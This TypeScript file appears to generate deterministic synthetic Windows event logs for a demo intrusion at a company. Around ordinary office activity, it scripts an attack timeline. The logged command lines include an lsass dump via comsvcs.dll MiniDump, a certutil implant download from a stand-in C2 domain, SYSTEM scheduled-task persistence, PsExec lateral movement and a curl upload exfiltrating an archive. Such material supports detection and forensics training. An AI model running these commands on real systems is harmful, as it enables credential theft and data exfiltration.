/**
 * The demo's Windows side: Security, Sysmon and System events of the scenario's hosts, in the
 * evtx_dump JSON shape (one event per line), with a working day of ordinary activity around the
 * intrusion. Deterministic: a seeded PRNG and the scenario's fixed times, no clock reads.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  ATTACKER,
  CHANGE_WINDOW,
  COMPANY,
  DEMO_SEED,
  EMPLOYEES,
  HOSTS,
  SUPPLIER,
  TIMELINE,
} from './scenario.js';

/** mulberry32: small, fast, good enough for synthetic logs. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const PROVIDERS = {
  security: { Name: 'Microsoft-Windows-Security-Auditing', Guid: '{54849625-5478-4994-A5BA-3E3B0328C30D}' },
  sysmon: { Name: 'Microsoft-Windows-Sysmon', Guid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}' },
  scm: { Name: 'Service Control Manager', Guid: '{555908D1-A6D7-4695-8E1E-26931D2012F4}' },
  firewall: {
    Name: 'Microsoft-Windows-Windows Firewall With Advanced Security',
    Guid: '{D1BC9AFF-2ABF-4D71-9146-ECB2A986EB85}',
  },
} as const;

type Channel =
  | 'Security'
  | 'Microsoft-Windows-Sysmon/Operational'
  | 'System'
  | 'Microsoft-Windows-Windows Firewall With Advanced Security/Firewall';

interface RawEvent {
  time: number;
  host: string;
  channel: Channel;
  provider: keyof typeof PROVIDERS;
  eventId: number;
  data: Record<string, string | number>;
}

const fqdn = (h: string) => `${h}.${COMPANY.dnsDomain}`;

function render(e: RawEvent, recordId: number): unknown {
  const p = PROVIDERS[e.provider];
  const system: Record<string, unknown> = {
    Provider: {
      '#attributes':
        e.provider === 'scm' ? { Name: p.Name, Guid: p.Guid, EventSourceName: 'Service Control Manager' } : p,
    },
    EventID: e.eventId,
    Version: e.provider === 'sysmon' ? 5 : e.eventId === 4624 ? 2 : 0,
    Level: e.provider === 'security' ? 0 : 4,
    Task: e.provider === 'sysmon' ? e.eventId : 12544,
    Opcode: 0,
    Keywords:
      e.provider === 'security'
        ? e.eventId === 4625
          ? '0x8010000000000000'
          : '0x8020000000000000'
        : '0x8000000000000000',
    TimeCreated: { '#attributes': { SystemTime: new Date(e.time).toISOString().replace('Z', '000Z') } },
    EventRecordID: recordId,
    Correlation: null,
    Execution: {
      '#attributes': { ProcessID: e.provider === 'sysmon' ? 3308 : 668, ThreadID: 4000 + (recordId % 97) },
    },
    Channel: e.channel,
    Computer: fqdn(e.host),
    Security: e.provider === 'sysmon' ? { '#attributes': { UserID: 'S-1-5-18' } } : null,
  };
  return {
    Event: {
      '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
      System: system,
      EventData: e.data,
    },
  };
}

const guid = (r: () => number) => {
  const h = () =>
    Math.floor(r() * 0x10000)
      .toString(16)
      .toUpperCase()
      .padStart(4, '0');
  return `{${h()}${h()}-${h()}-${h()}-${h()}-${h()}${h()}${h()}}`;
};

const utc = (ms: number) => new Date(ms).toISOString().replace('T', ' ').replace('Z', '');

interface Proc {
  image: string;
  cmd: string;
  user: string;
  parent?: string;
  parentCmd?: string;
  hashes?: string;
}

function sysmonProcess(r: () => number, host: string, time: number, p: Proc): RawEvent {
  return {
    time,
    host,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    provider: 'sysmon',
    eventId: 1,
    data: {
      RuleName: '-',
      UtcTime: utc(time),
      ProcessGuid: guid(r),
      ProcessId: 1000 + Math.floor(r() * 9000),
      Image: p.image,
      FileVersion: '-',
      Description: '-',
      Product: '-',
      Company: '-',
      OriginalFileName: p.image.split('\\').pop() ?? '-',
      CommandLine: p.cmd,
      CurrentDirectory: 'C:\\Windows\\system32\\',
      User: p.user,
      LogonGuid: guid(r),
      LogonId: '0x3e7',
      TerminalSessionId: 0,
      IntegrityLevel: p.user.endsWith('SYSTEM') ? 'System' : 'High',
      Hashes:
        p.hashes ??
        `SHA256=${Array.from({ length: 64 }, () => Math.floor(r() * 16).toString(16))
          .join('')
          .toUpperCase()}`,
      ParentProcessGuid: guid(r),
      ParentProcessId: 800 + Math.floor(r() * 100),
      ParentImage: p.parent ?? 'C:\\Windows\\explorer.exe',
      ParentCommandLine: p.parentCmd ?? 'C:\\Windows\\Explorer.EXE',
      ParentUser: p.user,
    },
  };
}

function logon(
  host: string,
  time: number,
  user: string,
  type: number,
  ip: string,
  workstation: string,
  r: () => number,
): RawEvent {
  return {
    time,
    host,
    channel: 'Security',
    provider: 'security',
    eventId: 4624,
    data: {
      SubjectUserSid: 'S-1-5-18',
      SubjectUserName: `${host}$`,
      SubjectDomainName: COMPANY.domain,
      SubjectLogonId: '0x3e7',
      TargetUserSid: `S-1-5-21-3623811015-3361044348-30300820-${1100 + Math.floor(r() * 800)}`,
      TargetUserName: user,
      TargetDomainName: COMPANY.domain,
      TargetLogonId: `0x${Math.floor(r() * 0xffffff).toString(16)}`,
      LogonType: type,
      LogonProcessName: type === 3 ? 'NtLmSsp ' : 'User32 ',
      AuthenticationPackageName: type === 3 ? 'NTLM' : 'Negotiate',
      WorkstationName: workstation,
      LogonGuid: '{00000000-0000-0000-0000-000000000000}',
      TransmittedServices: '-',
      LmPackageName: type === 3 ? 'NTLM V2' : '-',
      KeyLength: type === 3 ? 128 : 0,
      ProcessId: type === 3 ? '0x0' : '0x1c4',
      ProcessName: type === 3 ? '-' : 'C:\\Windows\\System32\\svchost.exe',
      IpAddress: ip,
      IpPort: type === 3 ? 0 : 49152 + Math.floor(r() * 16000),
      ImpersonationLevel: '%%1833',
      RestrictedAdminMode: '-',
      VirtualAccount: '%%1843',
      ElevatedToken: '%%1842',
    },
  };
}

function failedLogon(
  host: string,
  time: number,
  user: string,
  ip: string,
  status: string,
  r: () => number,
): RawEvent {
  return {
    time,
    host,
    channel: 'Security',
    provider: 'security',
    eventId: 4625,
    data: {
      SubjectUserSid: 'S-1-0-0',
      SubjectUserName: '-',
      SubjectDomainName: '-',
      SubjectLogonId: '0x0',
      TargetUserSid: 'S-1-0-0',
      TargetUserName: user,
      TargetDomainName: COMPANY.domain,
      Status: '0xc000006d',
      FailureReason: '%%2313',
      SubStatus: status,
      LogonType: 3,
      LogonProcessName: 'NtLmSsp ',
      AuthenticationPackageName: 'NTLM',
      WorkstationName: '-',
      TransmittedServices: '-',
      LmPackageName: '-',
      KeyLength: 0,
      ProcessId: '0x0',
      ProcessName: '-',
      IpAddress: ip,
      IpPort: 40000 + Math.floor(r() * 20000),
    },
  };
}

/** Ordinary work: office hours in Seoul (09:00-18:00 KST = 00:00-09:00 UTC), on 2026-03-02 and -03. */
function background(r: () => number, out: RawEvent[]): void {
  const days = [Date.parse('2026-03-02T00:00:00Z'), Date.parse('2026-03-03T00:00:00Z')];
  const apps: Proc[] = [
    {
      image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
      cmd: '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"',
      user: '',
    },
    {
      image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
      cmd: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
      user: '',
    },
    {
      image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
      cmd: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" /dde',
      user: '',
    },
    {
      image: 'C:\\Program Files\\Dassault Systemes\\B33\\win_b64\\code\\bin\\CNEXT.exe',
      cmd: '"C:\\Program Files\\Dassault Systemes\\B33\\win_b64\\code\\bin\\CNEXT.exe"',
      user: '',
    },
    { image: 'C:\\Windows\\System32\\notepad.exe', cmd: 'notepad.exe', user: '' },
  ];
  for (const day of days) {
    for (const user of EMPLOYEES) {
      const start = day + Math.floor((0.1 + r() * 0.9) * 3600_000);
      const ws = `WS-ENG-${String(1 + Math.floor(r() * 30)).padStart(2, '0')}`;
      const wsIp = `10.40.2.${10 + Math.floor(r() * 200)}`;
      out.push(logon(HOSTS.dc.name, start, user, 3, wsIp, ws, r));
      out.push(
        logon(HOSTS.fileServer.name, start + 60_000 + Math.floor(r() * 600_000), user, 3, wsIp, ws, r),
      );
      const n = 3 + Math.floor(r() * 5);
      for (let i = 0; i < n; i++) {
        const app = apps[Math.floor(r() * apps.length)];
        out.push(
          sysmonProcess(r, HOSTS.workstation.name, start + Math.floor(r() * 8 * 3600_000), {
            ...app,
            user: `${COMPANY.domain}\\${user}`,
          }),
        );
      }
      // the occasional mistyped password, then success
      if (r() < 0.2) out.push(failedLogon(HOSTS.dc.name, start - 20_000, user, wsIp, '0xc000006a', r));
    }
    // the supplier's ordinary, in-hours maintenance session (10:30 KST)
    const maint = day + 90 * 60_000;
    out.push(logon(HOSTS.mes.name, maint, SUPPLIER.account, 10, '203.0.113.24', 'HANIL-LT01', r));
    out.push(
      sysmonProcess(r, HOSTS.mes.name, maint + 120_000, {
        image: 'C:\\MES\\bin\\MesConsole.exe',
        cmd: '"C:\\MES\\bin\\MesConsole.exe" /diag',
        user: `${COMPANY.domain}\\${SUPPLIER.account}`,
      }),
    );
    // the backup agent's nightly service logons
    for (const h of [HOSTS.fileServer.name, HOSTS.mes.name, HOSTS.dc.name]) {
      out.push(logon(h, day + 17 * 3600_000 + Math.floor(r() * 600_000), 'svc_backup', 5, '-', '-', r));
    }
  }
}

function intrusion(r: () => number, out: RawEvent[]): void {
  const T = TIMELINE;
  const acct = `${COMPANY.domain}\\${SUPPLIER.account}`;
  const src = ATTACKER.vpnSourceIp;
  // Password spraying at the domain controller through the VPN, then the supplier's account works.
  const sprayUsers = [...EMPLOYEES.slice(0, 12), 'administrator', 'svc_backup', 'svc_hanil'];
  let t = T.vpnLogon - 9 * 60_000;
  for (const u of sprayUsers) {
    out.push(failedLogon(HOSTS.dc.name, t, u, src, '0xc000006a', r));
    t += 9_000 + Math.floor(r() * 4_000);
  }
  for (let i = 0; i < 3; i++)
    out.push(
      failedLogon(HOSTS.dc.name, T.vpnLogon - 40_000 + i * 6_000, SUPPLIER.account, src, '0xc000006a', r),
    );
  out.push(logon(HOSTS.dc.name, T.vpnLogon, SUPPLIER.account, 3, src, 'HANIL-LT01', r));
  // RDP onto the jump host, then from it onto the MES server (the relay)
  out.push(logon(HOSTS.jump.name, T.rdpToJump, SUPPLIER.account, 10, src, 'DESKTOP-7Q2M4KD', r));
  out.push(
    sysmonProcess(r, HOSTS.jump.name, T.rdpToMes - 4_000, {
      image: 'C:\\Windows\\System32\\mstsc.exe',
      cmd: `"C:\\Windows\\system32\\mstsc.exe" /v:${HOSTS.mes.ip}`,
      user: acct,
    }),
  );
  out.push({
    time: T.rdpToMes - 2_000,
    host: HOSTS.jump.name,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    provider: 'sysmon',
    eventId: 3,
    data: {
      RuleName: '-',
      UtcTime: utc(T.rdpToMes - 2_000),
      ProcessGuid: guid(r),
      ProcessId: 6120,
      Image: 'C:\\Windows\\System32\\mstsc.exe',
      User: acct,
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIsIpv6: 'false',
      SourceIp: HOSTS.jump.ip,
      SourceHostname: fqdn(HOSTS.jump.name),
      SourcePort: 50211,
      SourcePortName: '-',
      DestinationIsIpv6: 'false',
      DestinationIp: HOSTS.mes.ip,
      DestinationHostname: fqdn(HOSTS.mes.name),
      DestinationPort: 3389,
      DestinationPortName: 'ms-wbt-server',
    },
  });
  out.push(logon(HOSTS.mes.name, T.rdpToMes, SUPPLIER.account, 10, HOSTS.jump.ip, HOSTS.jump.name, r));
  // Discovery, then credential dumping with comsvcs.dll MiniDump
  const cmd = 'C:\\Windows\\System32\\cmd.exe';
  let d = T.rdpToMes + 5 * 60_000;
  for (const c of [
    'whoami /all',
    'net group "Domain Admins" /domain',
    'nltest /dclist:sjp',
    'tasklist /svc',
  ]) {
    const [exe] = c.split(' ');
    out.push(
      sysmonProcess(r, HOSTS.mes.name, d, {
        image: `C:\\Windows\\System32\\${exe}.exe`,
        cmd: c,
        user: acct,
        parent: cmd,
        parentCmd: '"cmd.exe"',
      }),
    );
    d += 40_000 + Math.floor(r() * 30_000);
  }
  out.push(
    sysmonProcess(r, HOSTS.mes.name, T.credentialDump, {
      image: 'C:\\Windows\\System32\\rundll32.exe',
      cmd: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\Libraries\\m.dmp full',
      user: acct,
      parent: cmd,
      parentCmd: '"cmd.exe"',
    }),
  );
  out.push({
    time: T.credentialDump + 300,
    host: HOSTS.mes.name,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    provider: 'sysmon',
    eventId: 10,
    data: {
      RuleName: '-',
      UtcTime: utc(T.credentialDump + 300),
      SourceProcessGUID: guid(r),
      SourceProcessId: 5044,
      SourceThreadId: 5048,
      SourceImage: 'C:\\Windows\\System32\\rundll32.exe',
      TargetProcessGUID: guid(r),
      TargetProcessId: 712,
      TargetImage: 'C:\\Windows\\system32\\lsass.exe',
      GrantedAccess: '0x1fffff',
      CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\comsvcs.dll+5bb1f',
      SourceUser: acct,
      TargetUser: 'NT AUTHORITY\\SYSTEM',
    },
  });
  // The implant: written, then a scheduled task, inside the change window
  out.push({
    time: T.implantTask - 60_000,
    host: HOSTS.mes.name,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    provider: 'sysmon',
    eventId: 11,
    data: {
      RuleName: '-',
      UtcTime: utc(T.implantTask - 60_000),
      ProcessGuid: guid(r),
      ProcessId: 4410,
      Image: 'C:\\Windows\\System32\\certutil.exe',
      TargetFilename: ATTACKER.implantPath,
      CreationUtcTime: utc(T.implantTask - 60_000),
      User: acct,
    },
  });
  out.push(
    sysmonProcess(r, HOSTS.mes.name, T.implantTask - 62_000, {
      image: 'C:\\Windows\\System32\\certutil.exe',
      cmd: `certutil.exe -urlcache -split -f https://${ATTACKER.c2Domain}/cdn/u.bin ${ATTACKER.implantPath}`,
      user: acct,
      parent: cmd,
      parentCmd: '"cmd.exe"',
    }),
  );
  const taskCmd = `schtasks /create /tn "${ATTACKER.taskName}" /tr "${ATTACKER.implantPath}" /sc onstart /ru SYSTEM /f`;
  out.push(
    sysmonProcess(r, HOSTS.mes.name, T.implantTask, {
      image: 'C:\\Windows\\System32\\schtasks.exe',
      cmd: taskCmd,
      user: acct,
      parent: cmd,
      parentCmd: '"cmd.exe"',
    }),
  );
  out.push({
    time: T.implantTask + 150,
    host: HOSTS.mes.name,
    channel: 'Security',
    provider: 'security',
    eventId: 4698,
    data: {
      SubjectUserSid: 'S-1-5-21-3623811015-3361044348-30300820-1712',
      SubjectUserName: SUPPLIER.account,
      SubjectDomainName: COMPANY.domain,
      SubjectLogonId: '0x5a3f2c',
      TaskName: ATTACKER.taskName,
      TaskContent: `<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Triggers><BootTrigger><Enabled>true</Enabled></BootTrigger></Triggers><Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals><Actions Context="Author"><Exec><Command>${ATTACKER.implantPath}</Command></Exec></Actions></Task>`,
    },
  });
  out.push(
    sysmonProcess(r, HOSTS.mes.name, T.implantFirstBeacon - 5_000, {
      image: ATTACKER.implantPath,
      cmd: `"${ATTACKER.implantPath}"`,
      user: 'NT AUTHORITY\\SYSTEM',
      parent: 'C:\\Windows\\System32\\svchost.exe',
      parentCmd: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
      hashes: `MD5=3F2A9C1B7E5D4A6C8B0E2F4A6C8E0B2D,SHA256=${ATTACKER.implantSha256.toUpperCase()},IMPHASH=9B1A7C3E5D2F4A6B8C0E1D3F5A7B9C2E`,
    }),
  );
  out.push({
    time: T.implantFirstBeacon - 1_000,
    host: HOSTS.mes.name,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    provider: 'sysmon',
    eventId: 22,
    data: {
      RuleName: '-',
      UtcTime: utc(T.implantFirstBeacon - 1_000),
      ProcessGuid: guid(r),
      ProcessId: 7788,
      QueryName: ATTACKER.c2Domain,
      QueryStatus: '0',
      QueryResults: `::ffff:${ATTACKER.c2Ip};`,
      Image: ATTACKER.implantPath,
      User: 'NT AUTHORITY\\SYSTEM',
    },
  });
  out.push({
    time: T.implantFirstBeacon,
    host: HOSTS.mes.name,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    provider: 'sysmon',
    eventId: 3,
    data: {
      RuleName: '-',
      UtcTime: utc(T.implantFirstBeacon),
      ProcessGuid: guid(r),
      ProcessId: 7788,
      Image: ATTACKER.implantPath,
      User: 'NT AUTHORITY\\SYSTEM',
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIsIpv6: 'false',
      SourceIp: HOSTS.mes.ip,
      SourceHostname: fqdn(HOSTS.mes.name),
      SourcePort: 51812,
      SourcePortName: '-',
      DestinationIsIpv6: 'false',
      DestinationIp: ATTACKER.c2Ip,
      DestinationHostname: ATTACKER.c2Domain,
      DestinationPort: 443,
      DestinationPortName: 'https',
    },
  });
  // Remote execution onto the file server with PsExec, then staging and upload there
  const psexecAt = T.stagingArchive - 10 * 60_000;
  out.push(
    sysmonProcess(r, HOSTS.mes.name, psexecAt, {
      image: 'C:\\Users\\Public\\Libraries\\PsExec64.exe',
      cmd: `C:\\Users\\Public\\Libraries\\PsExec64.exe \\\\${HOSTS.fileServer.name} -accepteula -s cmd.exe`,
      user: acct,
      parent: cmd,
      parentCmd: '"cmd.exe"',
    }),
  );
  out.push(
    logon(HOSTS.fileServer.name, psexecAt + 1_500, SUPPLIER.account, 3, HOSTS.mes.ip, HOSTS.mes.name, r),
  );
  out.push({
    time: psexecAt + 2_500,
    host: HOSTS.fileServer.name,
    channel: 'System',
    provider: 'scm',
    eventId: 7045,
    data: {
      ServiceName: 'PSEXESVC',
      ImagePath: '%SystemRoot%\\PSEXESVC.exe',
      ServiceType: 'user mode service',
      StartType: 'demand start',
      AccountName: 'LocalSystem',
    },
  });
  out.push(
    sysmonProcess(r, HOSTS.fileServer.name, T.stagingArchive, {
      image: 'C:\\Program Files\\7-Zip\\7z.exe',
      cmd: `"C:\\Program Files\\7-Zip\\7z.exe" a -t7z -mhe=on -pSjp!2026#x ${ATTACKER.archivePath} D:\\Design\\KF-X\\Avionics\\*`,
      user: acct,
      parent: 'C:\\Windows\\PSEXESVC.exe',
      parentCmd: 'C:\\Windows\\PSEXESVC.exe',
    }),
  );
  out.push({
    time: T.stagingArchive + 95_000,
    host: HOSTS.fileServer.name,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    provider: 'sysmon',
    eventId: 11,
    data: {
      RuleName: '-',
      UtcTime: utc(T.stagingArchive + 95_000),
      ProcessGuid: guid(r),
      ProcessId: 3920,
      Image: 'C:\\Program Files\\7-Zip\\7z.exe',
      TargetFilename: ATTACKER.archivePath,
      CreationUtcTime: utc(T.stagingArchive + 95_000),
      User: acct,
    },
  });
  out.push(
    sysmonProcess(r, HOSTS.fileServer.name, T.upload, {
      image: 'C:\\Windows\\System32\\curl.exe',
      cmd: `curl.exe -s -X POST https://${ATTACKER.uploadDomain}/2/files/upload -H "Authorization: Bearer [redacted]" -H "Dropbox-API-Arg: {\\"path\\":\\"/d.7z\\"}" --data-binary @${ATTACKER.archivePath}`,
      user: acct,
      parent: 'C:\\Windows\\System32\\cmd.exe',
      parentCmd: 'cmd.exe',
    }),
  );
  out.push({
    time: T.upload + 900,
    host: HOSTS.fileServer.name,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    provider: 'sysmon',
    eventId: 3,
    data: {
      RuleName: '-',
      UtcTime: utc(T.upload + 900),
      ProcessGuid: guid(r),
      ProcessId: 4102,
      Image: 'C:\\Windows\\System32\\curl.exe',
      User: acct,
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIsIpv6: 'false',
      SourceIp: HOSTS.fileServer.ip,
      SourceHostname: fqdn(HOSTS.fileServer.name),
      SourcePort: 52044,
      SourcePortName: '-',
      DestinationIsIpv6: 'false',
      DestinationIp: ATTACKER.uploadIp,
      DestinationHostname: ATTACKER.uploadDomain,
      DestinationPort: 443,
      DestinationPortName: 'https',
    },
  });
  out.push({
    time: T.upload + 400,
    host: HOSTS.fileServer.name,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    provider: 'sysmon',
    eventId: 22,
    data: {
      RuleName: '-',
      UtcTime: utc(T.upload + 400),
      ProcessGuid: guid(r),
      ProcessId: 4102,
      QueryName: ATTACKER.uploadDomain,
      QueryStatus: '0',
      QueryResults: `::ffff:${ATTACKER.uploadIp};`,
      Image: 'C:\\Windows\\System32\\curl.exe',
      User: acct,
    },
  });
  // The change window's own work on the gateway: one firewall rule added and removed as planned,
  // one added and never removed.
  const ws = Date.parse(CHANGE_WINDOW.start);
  const fw = (time: number, id: number, ruleId: string, name: string): RawEvent => ({
    time,
    host: HOSTS.vpnGateway.name,
    channel: 'Security',
    provider: 'security',
    eventId: id,
    data: {
      ProfileChanged: 'Domain,Private,Public',
      RuleId: ruleId,
      RuleName: name,
    },
  });
  out.push(
    fw(ws + 10 * 60_000, 4946, '{6F2B8C1A-0D4E-4B7A-9C3E-2A1F5D7B9E01}', 'TEST external link 8443 inbound'),
  );
  out.push(
    fw(ws + 12 * 60_000, 4946, '{6F2B8C1A-0D4E-4B7A-9C3E-2A1F5D7B9E02}', 'TEST external link SSH inbound'),
  );
  out.push(
    fw(ws + 230 * 60_000, 4948, '{6F2B8C1A-0D4E-4B7A-9C3E-2A1F5D7B9E02}', 'TEST external link SSH inbound'),
  );
}

/**
 * Writes the demo's Windows events under `dir/windows/<HOST>/<Channel>.json` (evtx_dump JSON,
 * one event per line) and returns the folder.
 */
export function writeDemoWindows(dir: string): string {
  const r = prng(DEMO_SEED);
  const events: RawEvent[] = [];
  background(r, events);
  intrusion(r, events);
  events.sort((a, b) => a.time - b.time || a.host.localeCompare(b.host) || a.eventId - b.eventId);
  const byFile = new Map<string, string[]>();
  const recordIds = new Map<string, number>();
  for (const e of events) {
    const key = `${e.host}/${e.channel.replace(/[\\/ ]+/g, '-')}`;
    const id = (recordIds.get(key) ?? 1000) + 1;
    recordIds.set(key, id);
    let lines = byFile.get(key);
    if (!lines) byFile.set(key, (lines = []));
    lines.push(JSON.stringify(render(e, id)));
  }
  const root = join(dir, 'windows');
  for (const [key, lines] of [...byFile.entries()].sort()) {
    const [host, file] = key.split('/');
    mkdirSync(join(root, host), { recursive: true });
    writeFileSync(join(root, host, `${file}.json`), `${lines.join('\n')}\n`);
  }
  return root;
}
